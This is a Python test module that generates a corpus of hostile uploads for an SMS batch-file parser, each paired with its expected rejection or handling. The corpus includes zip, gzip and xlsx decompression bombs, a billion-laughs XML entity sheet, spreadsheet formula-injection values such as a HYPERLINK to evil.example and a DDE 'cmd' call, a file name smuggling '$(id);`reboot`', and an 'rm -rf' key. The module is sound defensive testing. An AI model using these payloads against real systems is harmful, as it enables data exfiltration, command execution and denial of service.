"""The hostile-input corpus: files a client can upload, each with the outcome it must produce.

Every case is a generator (deterministic: same bytes every run) so that big
or binary files (a 5 MB line, bombs, random bytes) need not live in the
repository. ``python -m tests.hostile.cases DIR`` writes them all out, e.g.
to try them with curl by hand.

An expectation is the final ``state`` of the batch's summary and, for a
rejected file, its ``error_code`` and a fragment of its ``error_text`` (the
sentence telling the sender what to fix); for a processed file, the
``row_codes`` the report must show (one per row, "" for an accepted row) and
optional extra checks of the report.
"""

from __future__ import annotations

import codecs
import gzip
import io
import random
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

COMPLETE, REJECTED = "complete", "rejected"
MB = 1024 * 1024
#: The corpus product's max_file_bytes: the 5 MB line fits, the bombs' expanded size does not.
LIMIT_BYTES = 8 * MB


@dataclass(frozen=True)
class Case:
    id: str
    name: str  # the upload's file name
    make: Callable[[], bytes]
    state: str
    code: str = ""  # file-level error code of a rejected file
    sentence: str = ""  # a fragment of the summary's error_text (case-insensitive)
    row_codes: tuple[str, ...] | None = None  # per report row: "" accepted, else its error code
    report_check: Callable[[list[dict[str, str]]], None] | None = None
    #: Why the parser does not meet this expectation yet (the test is then xfail, strict).
    known_bug: str = ""
    tags: tuple[str, ...] = field(default=())


def _csv(*rows: str, header: str = "to,text") -> bytes:
    return ("\n".join((header, *rows)) + "\n").encode()


def _gzip(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def _zip(*members: tuple[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


def _zip_marked_encrypted() -> bytes:
    """A one-member zip whose headers say "encrypted" (zipfile cannot write real encryption)."""
    data = bytearray(_zip(("a.csv", _GOOD)))
    data[6] |= 0x1  # general purpose flag, local file header
    central = data.find(b"PK\x01\x02")
    data[central + 8] |= 0x1  # the same flag in the central directory
    return bytes(data)


def _random_bytes(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


def _deflate_bomb(header: bytes, filler: bytes, total: int) -> bytes:
    """gzip of ``header`` + ``filler`` repeated to ``total`` bytes, built without holding them all."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: gzip container
    out = [compressor.compress(header)]
    block = filler * (MB // len(filler))
    written = len(header)
    while written < total:
        out.append(compressor.compress(block))
        written += len(block)
    out.append(compressor.flush())
    return b"".join(out)


def _zip_bomb() -> bytes:
    data = zlib.decompress(_deflate_bomb(b"to,text\n", b"\n", 64 * MB), 31)
    return _zip(("bomb.csv", data))


def _xlsx(sheet_rows_xml: str, dimension: str = "A1:B2", extra: dict[str, bytes] | None = None) -> bytes:
    files = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>"
        ).encode(),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>"
        ).encode(),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ).encode(),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>"
        ).encode(),
        "xl/worksheets/sheet1.xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f'<dimension ref="{dimension}"/><sheetData>{sheet_rows_xml}</sheetData></worksheet>'
        ).encode(),
        **(extra or {}),
    }
    return _zip(*files.items())


def _inline_row(r: int, *values: str) -> str:
    cells = "".join(f'<c r="{chr(65 + i)}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values))
    return f'<row r="{r}">{cells}</row>'


def _xlsx_ok() -> bytes:
    return _xlsx(_inline_row(1, "to", "text") + _inline_row(2, "07700900001", "from a hand-made workbook"))


def _xlsx_empty_rows() -> bytes:
    # 200,000 empty rows after the header (a few MB of XML from a small file)
    empty = "".join(f'<row r="{r}"/>' for r in range(2, 200_002))
    return _xlsx(_inline_row(1, "to", "text") + empty, dimension="A1:XFD1048576")


def _xlsx_bomb() -> bytes:
    # a sheet expanding to 64 MB (of white space between two rows) from a ~70 KB file
    rows = _inline_row(1, "to", "text") + " " * (64 * MB) + _inline_row(2, "07700900001", "after the bomb")
    return _xlsx(rows)


def _xlsx_billion_laughs() -> bytes:
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)
    )
    sheet = (
        f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + _inline_row(1, "to", "text")
        + _inline_row(2, "07700900001", "&i;")
        + "</sheetData></worksheet>"
    ).encode()
    package = zipfile.ZipFile(io.BytesIO(_xlsx_ok()))
    members = [(n, package.read(n)) for n in package.namelist() if n != "xl/worksheets/sheet1.xml"]
    return _zip(*members, ("xl/worksheets/sheet1.xml", sheet))


def _ole() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _random_bytes(4096, 7)


def _png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + _random_bytes(2048, 3)


def _neutralised(columns: tuple[str, ...]) -> Callable[[list[dict[str, str]]], None]:
    def check(rows: list[dict[str, str]]) -> None:
        for row in rows:
            for column in columns:
                value = row[column]
                assert not value or value[0] not in "=+-@\t\r", f"{column}={value!r} would run as a formula"
    return check


def _climsgids(*expected: str) -> Callable[[list[dict[str, str]]], None]:
    def check(rows: list[dict[str, str]]) -> None:
        assert [r["climsgid"] for r in rows] == list(expected)
        _neutralised(("to", "climsgid", "error_text"))(rows)
    return check


def _error_text(row: int, fragment: str) -> Callable[[list[dict[str, str]]], None]:
    def check(rows: list[dict[str, str]]) -> None:
        assert fragment in rows[row]["error_text"], rows[row]
    return check


_GOOD = _csv("07700900001,Hello")

CASES: tuple[Case, ...] = (
    # --- empty and nearly empty ---------------------------------------------
    Case("empty", "empty.csv", lambda: b"", REJECTED, "100", "the file is empty"),
    Case("blank-lines", "blank.csv", lambda: b"\n\r\n   \n\t\n", REJECTED, "100", "the file is empty"),
    Case("bom-only", "bom.csv", lambda: codecs.BOM_UTF8, REJECTED, "100", "the file is empty"),
    Case("header-only", "header-only.csv", lambda: b"to,text\r\n", REJECTED, "100", "header row but no messages"),
    Case("header-and-delimiters", "header-commas.csv", lambda: b"to,text\r\n,\r\n,,\r\n", REJECTED, "100", "header row but no messages"),
    Case("gzip-of-nothing", "nothing.csv.gz", lambda: _gzip(b""), REJECTED, "100", "the file is empty"),
    # --- not text at all ----------------------------------------------------
    Case("random-bytes", "random.csv", lambda: _random_bytes(64 * 1024, 1), REJECTED, "100", "so it is not text"),
    Case("png-named-csv", "photo.csv", _png, REJECTED, "100", "NUL byte at byte offset 8"),
    Case("all-nul", "zeros.csv", lambda: b"\x00" * 1000, REJECTED, "100", "NUL byte at byte offset 0"),
    Case("nul-in-a-row", "nul.csv", lambda: b"to,text\n07700900001,Hel\x00lo\n", REJECTED, "100", "NUL byte at byte offset 23"),
    Case("utf16-without-bom", "utf16.csv", lambda: "to,text\n07700900001,Hi\n".encode("utf-16-le"), REJECTED, "100", "NUL byte"),
    Case("utf32", "utf32.csv", lambda: "to,text\n07700900001,Hi\n".encode("utf-32"), REJECTED, "100", "UTF-32"),
    Case("old-excel-xls", "legacy.xls", _ole, REJECTED, "100", "save it as .xlsx"),
    Case("html-page", "page.csv", lambda: b"<!DOCTYPE html><html><body><h1>404</h1></body></html>\n", REJECTED, "100", "column"),
    Case("json", "batch.json", lambda: b'[{"to": "07700900001", "text": "hi"}]\n', REJECTED, "100", "column"),
    # --- encodings that lie ---------------------------------------------------
    Case(
        "invalid-utf8-posing-as-utf8", "posing.csv",
        lambda: b"to,text\n07700900001,caf\xc3\x28 \x81 au lait\n", REJECTED, "100", "byte 0x81 at byte offset 26 of the file is not valid UTF-8 or Windows-1252",
    ),
    Case(
        "windows-1252-export", "cp1252.csv", lambda: "to,text\n07700900001,Café crème\n".encode("cp1252"),
        COMPLETE, row_codes=("",),
    ),
    Case(
        "utf16-truncated", "utf16-cut.csv", lambda: codecs.BOM_UTF16_LE + "to,text\n07700900001,Hi\n".encode("utf-16-le")[:-1],
        REJECTED, "100", "ends in the middle of a UTF-16 character",
    ),
    # --- size and shape -------------------------------------------------------
    Case(
        "single-5mb-line", "one-line.csv", lambda: b"to,text\n07700900001," + b"x" * (5 * MB) + b"\n",
        COMPLETE, row_codes=("113",),
    ),
    Case("5mb-without-newline", "no-newline.csv", lambda: b"A" * (5 * MB), REJECTED, "100", "column"),
    Case("10000-columns", "wide.csv", lambda: _csv("07700900001,hi" + ",x" * 9_998, header="to,text" + "".join(f",c{i}" for i in range(9_998))),
         COMPLETE, row_codes=("",)),
    Case("old-mac-line-endings", "cr.csv", lambda: b"to,text\r07700900001,Hi\r07700900002,Ho\r", COMPLETE, row_codes=("", "")),
    # --- broken CSV -----------------------------------------------------------
    Case(
        "unclosed-quote", "unclosed.csv", lambda: b'to,text\n07700900001,"never closed\n07700900002,hi\n',
        REJECTED, "100", "double quotes",
    ),
    Case(
        "unquoted-delimiter", "extra-field.csv", lambda: _csv("07700900001,Hello, world", "07700900002,Hi"),
        REJECTED, "100", "delimiter",
    ),
    Case("missing-columns", "no-text.csv", lambda: _csv("07700900001", header="to"), REJECTED, "100", "text"),
    # --- compressed and packaged ----------------------------------------------
    Case("truncated-gzip", "cut.csv.gz", lambda: _gzip(_GOOD * 50)[:40], REJECTED, "100", "gzip data is damaged or truncated"),
    Case("gzip-magic-then-junk", "junk.csv.gz", lambda: b"\x1f\x8b\x08\x00" + _random_bytes(512, 2), REJECTED, "100", "gzip data is damaged"),
    Case("zip-two-members", "two.zip", lambda: _zip(("a.csv", _GOOD), ("b.csv", _GOOD)), REJECTED, "100", "exactly one batch file"),
    Case("zip-empty", "empty.zip", lambda: _zip(), REJECTED, "100", "zip archive is empty"),
    Case("zip-encrypted", "locked.zip", _zip_marked_encrypted, REJECTED, "100", "password-protected"),
    Case("zip-truncated", "cut.zip", lambda: _zip(("a.csv", _GOOD * 100))[:60], REJECTED, "100", "zip"),
    Case("zip-in-zip", "nested.zip", lambda: _zip(("inner.zip", _zip(("a.csv", _GOOD)))), REJECTED, "100", "Excel workbook"),
    Case(
        "zip-bomb", "bomb.zip", _zip_bomb, REJECTED, "131", "larger than",
    ),
    Case(
        "gzip-bomb", "bomb.csv.gz", lambda: _deflate_bomb(b"to,text\n07700900001,hi\n", b" " * 64, 64 * MB), REJECTED, "131", "larger than",
    ),
    # --- workbooks ------------------------------------------------------------
    Case("xlsx-that-is-text", "text.xlsx", lambda: b"just some words, not a spreadsheet\n", REJECTED, "100", "column"),
    Case("xlsx-without-sheet", "hollow.xlsx", lambda: _zip(("[Content_Types].xml", b"<Types/>")), REJECTED, "100", "cannot be read as an Excel workbook"),
    Case("xlsx-hand-made", "made.xlsx", _xlsx_ok, COMPLETE, row_codes=("",)),
    Case("xlsx-200k-empty-rows", "rows.xlsx", _xlsx_empty_rows, REJECTED, "100", "header row but no messages"),
    Case(
        "xlsx-bomb", "bomb.xlsx", _xlsx_bomb, REJECTED, "131", "larger than",
    ),
    Case("xlsx-billion-laughs", "laughs.xlsx", _xlsx_billion_laughs, REJECTED, "100", "cannot be read as an Excel workbook"),
    Case("ods", "sheet.ods", lambda: _zip(("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", b"<x/>")),
         REJECTED, "100", "OpenDocument"),
    # --- key:value ------------------------------------------------------------
    Case("kv-wrong-product", "creds.txt", lambda: b"api_id:someone-else\ntext:Hi\nto:07700900001\n", REJECTED, "001", "api_id"),
    Case("kv-wrong-password", "password.txt", lambda: b"user:hostile\npassword:guess\ntext:Hi\nto:07700900001\n", REJECTED, "001", "password"),
    Case("kv-no-text", "notext.txt", lambda: b"to:07700900001\nfrom:Shop\n", REJECTED, "101", "no 'text:' line"),
    Case("kv-unknown-key", "unknown.txt", lambda: b"text:Hi\nto:07700900001\nrm -rf:/\n", REJECTED, "101", "line 3"),
    Case("kv-bad-unicode-hex", "hex.txt", lambda: b"unicode:1\ntext:ZZZZ\nto:07700900001\n", COMPLETE, row_codes=("116",)),
    # --- formula injection: accepted, but neutralised in the report CSV ----------
    Case(
        "formula-injection-csv", "formulas.csv",
        lambda: _csv(
            '07700900001,Hi,=HYPERLINK("http://evil.example/?"&A1)',
            "07700900002,Hi,+1+2",
            "07700900003,Hi,-2+3",
            "07700900004,Hi,@SUM(A1:A9)",
            '=1+1,Hi,"=cmd|\' /C calc\'!A0"',
            header="to,text,climsgid",
        ),
        COMPLETE, row_codes=("", "", "", "", "105"),
        report_check=_climsgids(
            "'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+1+2", "'-2+3", "'@SUM(A1:A9)", "'=cmd|' /C calc'!A0"
        ),
    ),
    Case(
        "formula-injection-kv", "formulas.txt", lambda: b"text:Hi\nclimsgid:=2+5\nto:07700900001\n",
        COMPLETE, row_codes=("",), report_check=_climsgids("'=2+5"),
    ),
    # --- rows a sender gets wrong ------------------------------------------------
    Case(
        "row-problems", "rows.csv",
        lambda: _csv("07700900001,Hi,ThisSenderIsWayTooLong", "12,Hi,Shop", "07700900003,  ,Shop", "07700900004,Hi,Shop",
                     "07700900004,Hi,Shop", header="to,text,from"),
        COMPLETE, row_codes=("123", "105", "107", "", "132"),
    ),
    Case(
        "control-characters-in-text", "bell.csv", lambda: _csv("07700900001,ring\x07 \x1b[2J", "07700900002,fine\ttab"),
        COMPLETE, row_codes=("116", ""), report_check=_error_text(0, "control character"),
    ),
    # --- names ------------------------------------------------------------------
    Case("name-with-spaces", "my batch file (final) v2.csv", lambda: _csv("07700900001,spaces"), COMPLETE, row_codes=("",)),
    Case("unicode-name", "données-été-日本-😀.csv", lambda: _csv("07700900001,unicode name"), COMPLETE, row_codes=("",)),
    Case("shell-name", "$(id);`reboot`&|<>'\".csv", lambda: _csv("07700900001,shell name"), COMPLETE, row_codes=("",)),
    Case("longest-name", "n" * 196 + ".csv", lambda: _csv("07700900001,long name"), COMPLETE, row_codes=("",)),
)


def write_all(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for case in CASES:
        (folder / f"{case.id}--{case.name}").write_bytes(case.make())


if __name__ == "__main__":  # pragma: no cover
    write_all(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus"))
